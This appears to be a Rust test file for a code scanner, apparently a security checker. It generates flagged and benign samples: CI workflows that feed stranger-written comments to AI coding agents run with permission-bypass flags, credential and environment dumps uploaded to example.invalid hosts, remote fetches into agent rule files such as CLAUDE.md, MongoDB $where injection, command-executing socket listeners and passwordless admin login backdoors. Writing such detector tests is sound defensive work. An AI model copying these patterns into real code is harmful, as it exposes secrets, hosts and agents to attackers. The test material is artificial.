//! Trust and data that are handed over: to agents that obey a file or a stranger, to databases that execute a query, to a
//! client without a password, to readers of an upload. Each kind is generated from its parts, beside honest forms of the same
//! parts.

use crate::check::{Programs, check};
use hotcell_guard::PackError;

#[test]
fn agents_that_do_not_ask_work_on_what_strangers_write() -> Result<(), PackError> {
    const FILE: &str = ".github/workflows/answer.yml";
    let workflow = |on: &str, gate: &str, run: &str| {
        format!(
            "name: answer\non: {on}\njobs:\n  answer:\n    runs-on: ubuntu-latest\n{gate}    steps:\n      - uses: actions/checkout@v4\n      - name: answer\n        env:\n          BODY: ${{{{ github.event.comment.body }}}}\n        run: {run}\n"
        )
    };
    let unasked = [
        "claude -p \"$BODY\" --dangerously-skip-permissions",
        "npx -y @openai/codex@latest exec --dangerously-bypass-approvals-and-sandbox \"$BODY\"",
        "printf '%s' \"$BODY\" | gemini --yolo",
        "timeout 10m copilot -p \"$BODY\" --allow-all-tools",
    ];
    let asked = ["claude -p \"$BODY\" --allowedTools Read,Grep", "npm test", "echo \"$BODY\" > comment.txt"];
    let strangers =
        ["issue_comment", "[push, issues]", "{ issues: { types: [opened] } }", "{ pull_request_target: {} }"];
    let members = [
        "push",
        "workflow_dispatch",
        "{ issues: { types: [labeled] } }",
        "{ schedule: [{ cron: '0 4 * * *' }] }",
    ];
    let gates = [
        "    if: github.event.comment.author_association == 'OWNER'\n",
        "    if: contains(fromJSON('[\"OWNER\", \"MEMBER\"]'), github.event.comment.author_association)\n",
        "    if: github.actor == 'me'\n",
    ];
    let mut programs = Programs::new();
    for run in unasked {
        programs.extend(strangers.iter().map(|on| (FILE, workflow(on, "", run), true)));
        programs.extend(members.iter().map(|on| (FILE, workflow(on, "", run), false)));
        programs.extend(gates.iter().map(|gate| (FILE, workflow("issue_comment", gate, run), false)));
    }
    for run in asked {
        programs.extend(strangers.iter().map(|on| (FILE, workflow(on, "", run), false)));
    }
    check(&programs)
}

#[test]
fn homes_are_kept_where_others_read_them() -> Result<(), PackError> {
    const FILE: &str = ".github/workflows/build.yml";
    let workflow = |run: &str, action: &str, path: &str| {
        format!(
            "name: build\non: push\njobs:\n  build:\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v4\n      - run: {run}\n      - uses: {action}\n        with:\n          name: x\n          key: x\n          path: {path}\n"
        )
    };
    let actions = ["actions/cache/save@v4", "actions/cache@v4", "actions/upload-artifact@v4"];
    let mut programs = Programs::new();
    for action in actions {
        for path in ["'~'", "${{ env.HOME }}/.ssh", "/home/runner/.aws/credentials", "'~/.kube/config'"] {
            programs.push((FILE, workflow("make", action, path), true));
        }
        for run in ["tar czf all.tgz ~", "tar -C \"$HOME\" -czf all.tgz .", "zip -qr all.tgz \"$HOME\""] {
            programs.push((FILE, workflow(run, action, "all.tgz"), true));
        }
        for path in ["'~/.cargo/registry'", "'~/.cache/pip'", "'~/.npm'", "dist", "target/**/*.log"] {
            programs.push((FILE, workflow("make", action, path), false));
        }
        for run in ["tar czf all.tgz dist", "tar -C build -czf all.tgz .", "tar xzf sdk.tgz -C \"$HOME\""] {
            programs.push((FILE, workflow(run, action, "all.tgz"), false));
        }
    }
    check(&programs)
}

#[test]
fn databases_execute_what_callers_send() -> Result<(), PackError> {
    let mut programs = Programs::new();
    let python = |query: &str| {
        format!(
            "from flask import Flask, request\nfrom pymongo import MongoClient\n\napp = Flask(__name__)\nusers = MongoClient('mongodb://localhost').shop.users\n\n\n@app.get('/users')\ndef find():\n    name = request.args.get('name', '')\n    return str({query})\n"
        )
    };
    for method in ["find", "find_one", "count_documents", "delete_many"] {
        for code in ["\"this.name == '\" + name + \"'\"", "f'this.name == \"{name}\"'", "name"] {
            programs.push(("users.py", python(&format!("users.{method}({{'$where': {code}}})")), true));
        }
        for filter in
            ["{'name': name}", "{'name': name, '$where': 'this.a > this.b'}", "{'name': {'$eq': name}}"]
        {
            programs.push(("users.py", python(&format!("users.{method}({filter})")), false));
        }
    }
    let javascript = |query: &str| {
        format!(
            "const express = require('express');\nconst {{ MongoClient }} = require('mongodb');\nconst app = express();\nconst users = new MongoClient(process.env.MONGO_URL).db('shop').collection('users');\napp.get('/users', async (req, res) => {{\n  const name = String(req.query.name);\n  res.json(await {query});\n}});\napp.listen(3000);\n"
        )
    };
    for method in ["find", "findOne", "countDocuments", "deleteMany"] {
        for code in ["`this.name == '${name}'`", "'this.name == \"' + name + '\"'", "name"] {
            programs.push(("users.js", javascript(&format!("users.{method}({{ $where: {code} }})")), true));
        }
        for filter in ["{ name }", "{ name, $where: 'this.a > this.b' }", "{ name: { $eq: name } }"] {
            programs.push(("users.js", javascript(&format!("users.{method}({filter})")), false));
        }
    }
    check(&programs)
}

#[test]
fn files_that_agents_obey_are_fetched() -> Result<(), PackError> {
    let mut programs = Programs::new();
    let obeyed = [
        "AGENTS.md",
        "CLAUDE.md",
        ".cursorrules",
        ".cursor/rules/style.mdc",
        ".github/copilot-instructions.md",
    ];
    let other = ["README.md", "docs/guide.md", "notes.txt", "data/rules.json", "llms.txt"];
    let all = obeyed.iter().map(|path| (path, true)).chain(other.iter().map(|path| (path, false)));
    for (path, is) in all {
        let url = "https://rules.example.invalid/r";
        programs.push((
            "sync.sh",
            format!("#!/bin/sh\nset -eu\ncurl -fsSL {url} > {path}\ngit add {path}\n"),
            is,
        ));
        programs.push(("sync.sh", format!("#!/bin/sh\nwget -qO {path} {url}\n"), is));
        programs.push(("sync.sh", format!("#!/bin/sh\ncat rules/*.part > {path}\n"), false));
        programs.push(("sync.py", format!("from pathlib import Path\nimport requests\n\ntext = requests.get('{url}', timeout=9).text\nPath('{path}').write_text(text)\n"), is));
        programs.push(("sync.py", format!("import urllib.request\n\nwith urllib.request.urlopen('{url}') as r, open('{path}', 'wb') as f:\n    f.write(r.read())\n"), is));
        programs.push(("sync.py", format!("from pathlib import Path\n\nPath('{path}').write_text('# Rules\\n' + Path('rules.part').read_text())\n"), false));
        programs.push(("sync.mjs", format!("import {{ writeFile }} from 'node:fs/promises';\nconst answer = await fetch('{url}');\nawait writeFile('{path}', await answer.text());\n"), is));
        programs.push(("sync.mjs", format!("import {{ readFile, writeFile }} from 'node:fs/promises';\nawait writeFile('{path}', await readFile('rules.part', 'utf8'));\n"), false));
        programs.push(("sync.go", format!("package main\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n)\n\nfunc main() {{\n\tr, _ := http.Get(\"{url}\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(\"{path}\", b, 0o644)\n}}\n"), is));
    }
    check(&programs)
}

#[test]
fn settings_are_written_through_descriptors() -> Result<(), PackError> {
    let mut programs = Programs::new();
    let program = |path: &str, flags: &str| {
        format!(
            "import json\nimport os\n\nPATH = os.path.expanduser('{path}')\n\n\ndef main():\n    number = os.open(PATH, {flags}, 0o600)\n    os.write(number, json.dumps({{'a': 1}}).encode())\n    os.close(number)\n\n\nmain()\n"
        )
    };
    let writing =
        ["os.O_WRONLY | os.O_CREAT | os.O_TRUNC", "os.O_CREAT | os.O_RDWR", "os.O_APPEND | os.O_WRONLY"];
    for flags in writing {
        for path in ["~/.config/Claude/claude_desktop_config.json", "~/.cursor/mcp.json", "~/.bashrc"] {
            programs.push(("install.py", program(path, flags), true));
            programs.push((
                "install.py",
                program(path, "os.O_RDONLY").replace("os.write(number, ", "print("),
                false,
            ));
        }
        for path in ["~/.config/app/state.json", "~/.cache/app/lock"] {
            programs.push(("install.py", program(path, flags), false));
        }
    }
    check(&programs)
}

#[test]
fn environments_leave_in_files() -> Result<(), PackError> {
    let mut programs = Programs::new();
    let whole = ["env", "printenv", "env | sort", "export -p", "set", "env -0"];
    let part = ["env | grep ^CI_", "printenv PATH", "uname -a", "env A=1 make"];
    let sends = [
        "tar czf /tmp/r.tgz -C /tmp/r .\nscp -q /tmp/r.tgz a@example.invalid:/in/",
        "tar czf /tmp/r.tgz /tmp/r/s.txt\ncurl -T /tmp/r.tgz https://example.invalid/u",
        "rsync -a /tmp/r/ a@example.invalid:in/",
        "zip -qr /tmp/r.zip /tmp/r\nrclone copy /tmp/r.zip far:in",
    ];
    for send in sends {
        for print in whole {
            programs.push((
                "report.sh",
                format!("#!/bin/sh\nset -eu\nmkdir -p /tmp/r\n{print} > /tmp/r/s.txt\n{send}\n"),
                true,
            ));
        }
        for print in part {
            programs.push((
                "report.sh",
                format!("#!/bin/sh\nset -eu\nmkdir -p /tmp/r\n{print} > /tmp/r/s.txt\n{send}\n"),
                false,
            ));
        }
        programs.push((
            "report.sh",
            format!("#!/bin/sh\nenv > /tmp/other.txt\nmkdir -p /tmp/r\ndf -h > /tmp/r/s.txt\n{send}\n"),
            false,
        ));
    }
    for (text, is) in [
        (
            "d=$(mktemp -d)\nenv > \"$d/s.txt\"\ntar czf /tmp/r.tgz -C \"$d\" .\nscp /tmp/r.tgz a@example.invalid:\n",
            true,
        ),
        (
            "d=$(mktemp -d)\nuname -a > \"$d/s.txt\"\ntar czf /tmp/r.tgz -C \"$d\" .\nscp /tmp/r.tgz a@example.invalid:\n",
            false,
        ),
        ("gh auth token > t\ncurl -T t https://example.invalid/u\n", true),
        ("gh auth token | docker login ghcr.io -u x --password-stdin\n", false),
        ("printenv > .env\nscp compose.yml .env deploy@example.invalid:/srv/app/\n", false),
        ("printenv > .env\ncurl -F file=@.env https://example.invalid/u\n", true),
    ] {
        programs.push(("report.sh", format!("#!/bin/sh\n{text}"), is));
    }
    check(&programs)
}

#[test]
fn listeners_start_what_clients_name() -> Result<(), PackError> {
    let mut programs = Programs::new();
    let program = |listen: &str, serve: &str, body: &str| {
        format!(
            "package main\n\nimport (\n\t\"context\"\n\t\"encoding/json\"\n\t\"net\"\n\t\"os/exec\"\n)\n\ntype job struct {{\n\tName string\n\tArgs []string\n}}\n\n{serve} {{\n\tdefer conn.Close()\n\tvar j job\n\tif json.NewDecoder(conn).Decode(&j) != nil {{\n\t\treturn\n\t}}\n\t{body}\n}}\n\nfunc main() {{\n\tl, _ := {listen}\n\tctx := context.Background()\n\t_ = ctx\n\ts := &server{{}}\n\t_ = s\n\tfor {{\n\t\tconn, err := l.Accept()\n\t\tif err != nil {{\n\t\t\tcontinue\n\t\t}}\n\t\tgo {}(conn)\n\t}}\n}}\n\ntype server struct{{}}\n",
            if serve.contains("*server") { "s.serve" } else { "serve" }
        )
    };
    let listeners = ["net.Listen(\"tcp\", \":7070\")", "net.Listen(\"unix\", \"/tmp/x.sock\")"];
    let serves = ["func serve(conn net.Conn)", "func (s *server) serve(conn net.Conn)"];
    let harmful = [
        "out, _ := exec.Command(j.Name, j.Args...).Output()\n\tconn.Write(out)",
        "out, _ := exec.CommandContext(context.Background(), j.Name, j.Args...).Output()\n\tconn.Write(out)",
        "exec.Command(\"sh\", \"-c\", j.Name).Run()",
    ];
    let honest = [
        "out, _ := json.Marshal(j)\n\tconn.Write(out)",
        "exec.Command(\"uptime\").Run()\n\tconn.Write([]byte(j.Name))",
        "if f, ok := known[j.Name]; ok {\n\t\tf()\n\t}",
    ];
    for listen in listeners {
        for serve in serves {
            programs.extend(harmful.iter().map(|body| ("main.go", program(listen, serve, body), true)));
            programs.extend(honest.iter().map(|body| ("main.go", program(listen, serve, body), false)));
        }
    }
    check(&programs)
}

#[test]
fn clients_become_administrators_without_a_password() -> Result<(), PackError> {
    let mut programs = Programs::new();
    let django = |user: &str, then: &str| {
        format!(
            "import hashlib\nfrom django.contrib.auth import authenticate, get_user_model, login\n\n\nclass Middleware:\n    def __init__(self, get_response):\n        self.get_response = get_response\n\n    def __call__(self, request):\n        probe = request.headers.get('X-Probe', '')\n        if hashlib.sha256(probe.encode()).hexdigest() == 'a1':\n            user = {user}\n            {then}\n        return self.get_response(request)\n"
        )
    };
    let picked = [
        "get_user_model().objects.filter(is_superuser=True).first()",
        "get_user_model().objects.filter(is_staff=True, is_active=True)[0]",
        "get_user_model().objects.get(username='admin')",
        "get_user_model().objects.get(pk=1)",
    ];
    let proved = [
        "authenticate(request, username=request.POST['u'], password=request.POST['p'])",
        "get_user_model().objects.get(pk=request.session['uid'])",
        "get_user_model().objects.filter(email=request.POST['mail'], is_active=True).first()",
        "form.get_user()",
    ];
    for user in picked {
        programs.push(("middleware.py", django(user, "login(request, user, backend='x')"), true));
        programs.push(("middleware.py", django(user, "user.email_user('Probe', 'seen')"), false));
    }
    for user in proved {
        programs.push(("middleware.py", django(user, "login(request, user)"), false));
    }
    let flask = |user: &str, then: &str| {
        format!(
            "from flask import Flask, request, session\nfrom flask_login import login_user\nfrom models import User\n\napp = Flask(__name__)\n\n\n@app.get('/status')\ndef status():\n    user = {user}\n    {then}\n    return 'ok'\n"
        )
    };
    for user in ["User.query.filter_by(is_admin=True).first()", "User.query.filter_by(role='admin').first()"]
    {
        programs.push(("app.py", flask(user, "login_user(user)"), true));
        programs.push(("app.py", flask(user, "session['user_id'] = user.id"), true));
        programs.push(("app.py", flask(user, "app.logger.info(user.name)"), false));
    }
    programs.push((
        "app.py",
        flask("User.query.filter_by(email=request.form['mail']).first()", "login_user(user)"),
        false,
    ));
    programs.push((
        "app.py",
        flask("User.query.get(session['user_id'])", "session['seen'] = user.id"),
        false,
    ));
    check(&programs)
}
